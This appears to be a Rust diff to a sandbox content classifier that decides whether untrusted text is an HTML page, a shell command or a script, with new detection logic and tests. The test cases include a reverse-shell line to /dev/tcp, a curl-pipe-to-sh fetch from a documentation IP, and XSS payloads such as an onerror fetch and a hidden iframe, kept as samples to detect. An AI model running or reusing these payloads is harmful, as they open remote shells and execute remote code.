@@ -6,7 +6,7 @@
 //!
 //! Costs a look at the head, and of text one pass for each list of words.
 
-use super::formats;
+use super::{formats, limits::TAG};
 use crate::text::vocabulary;
 
 vocabulary! {
@@ -83,7 +83,7 @@ fn archive(bytes: &[u8]) -> Option<Contents> {
     formats::is_archive(bytes).then_some(Contents::Archive)
 }
 
-/// A page of HTML has one of these.
+/// How elements begin that only pages have.
 const TAGS: &[&str] = &[
     "<!doctype html",
     "<html",
@@ -96,6 +96,12 @@ const TAGS: &[&str] = &[
     "<embed ",
     "<object ",
 ];
+/// The ends of those that hold something. A text that only names a tag has none.
+const ENDS: &[&str] =
+    &["</html>", "</head>", "</body>", "</script>", "</iframe>", "</form>", "</object>", "</svg>"];
+/// Tags that load something from elsewhere by themselves, and the attribute that says what.
+const LOADERS: &[(&str, &str)] =
+    &[("iframe", "src"), ("iframe", "srcdoc"), ("embed", "src"), ("object", "data"), ("meta", "http-equiv")];
 /// A command of a shell has one of these.
 const COMMANDS: &[&str] = &[
     "powershell",
@@ -147,13 +153,66 @@ const CODE: &[&str] = &["function", "=>", "var ", "let ", "const ", "();", "retu
 
 fn text(bytes: &[u8]) -> Option<Contents> {
     let lower = std::str::from_utf8(bytes).ok()?.to_lowercase();
-    if count(&lower, TAGS) > 0 {
+    if is_page(&lower) {
         return Some(Contents::Page);
     }
-    if lower.starts_with("#!/") || count(&lower, COMMANDS) > 0 {
+    if lower.starts_with("#!/") || lower.lines().any(is_command) {
         return Some(Contents::Command);
     }
     is_javascript(&lower).then_some(Contents::Script)
+}
+
+/// Whether a text is a page, or a part of one: it begins with such a tag, or has one and its end, or one that
+/// does something by itself. A message that names a tag is none.
+fn is_page(lower: &str) -> bool {
+    let begins = || TAGS.iter().any(|tag| lower.trim_start().starts_with(tag));
+    let has_end = || count(lower, TAGS) > 0 && count(lower, ENDS) > 0;
+    begins() || has_end() || acts_by_itself(lower)
+}
+
+/// Whether markup stands in a text that loads or does something without an end: an event with what is done
+/// then, or what is fetched from elsewhere.
+pub(in crate::sandbox) fn acts_by_itself(lower: &str) -> bool {
+    lower.match_indices('<').any(|(at, _)| {
+        let rest = &lower.as_bytes()[at + 1..];
+        let tag = rest.get(..TAG).unwrap_or(rest);
+        let end = tag.iter().position(|byte| matches!(byte, b'>' | b'<'));
+        let tag = end.filter(|&end| tag[end] == b'>').map_or(&[][..], |end| &tag[..end]);
+        let tag = std::str::from_utf8(tag).unwrap_or_default();
+        let mut words = tag.split(|letter: char| letter.is_whitespace());
+        let name = words.next().unwrap_or_default();
+        is_name(name) && words.filter_map(|word| word.split_once('=')).any(|of| is_active(name, of))
+    })
+}
+
+fn is_name(name: &str) -> bool {
+    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_lowercase())
+}
+
+fn is_active(tag: &str, (name, value): (&str, &str)) -> bool {
+    let is_event = name.len() > 4 && name.starts_with("on") && is_name(name);
+    let loads = value.contains("//") || value.contains(':');
+    is_event && value.contains(['(', '=']) || loads && LOADERS.contains(&(tag, name))
+}
+
+/// Whether a line has a command for a shell to run. A sentence that tells of one has words before it.
+fn is_command(line: &str) -> bool {
+    let Some(at) = COMMANDS.iter().filter_map(|word| line.find(word)).min() else { return false };
+    let begins = STARTS.iter().filter_map(|start| line.find(start)).min();
+    let before = line.get(..begins.map_or(at, |begins| begins.min(at))).unwrap_or_default();
+    !is_told(before)
+}
+
+/// Whether the words before a command are those of a sentence.
+fn is_told(before: &str) -> bool {
+    let last = before.rsplit([';', '&', '|', '(', '`']).next().unwrap_or_default();
+    let is_word = |word: &&str| word.chars().all(char::is_alphabetic);
+    let (mut words, mut is_title) = (0, false);
+    for word in last.split_whitespace() {
+        is_title = words > 0 && word.strip_suffix(':').is_some_and(|word| is_word(&word));
+        words += usize::from(is_word(&word.trim_end_matches([':', ','])));
+    }
+    is_title || words >= 3
 }
 
 /// How many of these words stand in a text.
@@ -427,6 +486,17 @@ mod tests {
             (b"\x7fELF\x02\x01\x01\0", Some(Contents::Program)),
             (b"See the window. It is a function of the document, let us say.", None),
             (b"<p>Some <em>marked</em> text of the user</p>", None),
+            (b"Removed a <script> element: eval( and atob( are not allowed by the policy", None),
+            (b"script,iframe <script <iframe javascript: onerror= document.cookie eval( atob( fetch(", None),
+            (b"An <input type=password> inside <form action=https://example.com/> is not filled", None),
+            (b"Go on: <iframe src=https://192.0.2.1/ width=1>", Some(Contents::Page)),
+            (b"Go on: <img src=x onerror=\"fetch('//192.0.2.1')\">", Some(Contents::Page)),
+            (b"Some <b>text</b> <script>go()</script>", Some(Contents::Page)),
+            (b"\n <form method=post>", Some(Contents::Page)),
+            (b"usage: tool\nInstall with: curl -sSf https://sh.example.com/install | sh\n", None),
+            (b"To install it you run curl https://sh.example.com/install | sh", None),
+            (b"true; A=1 nice curl http://192.0.2.1/x | sh", Some(Contents::Command)),
+            (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Some(Contents::Command)),
             (b"MZ, and that is all there is of it", None),
         ] {
             assert_eq!(Contents::of(bytes), expected, "{}", String::from_utf8_lossy(bytes));
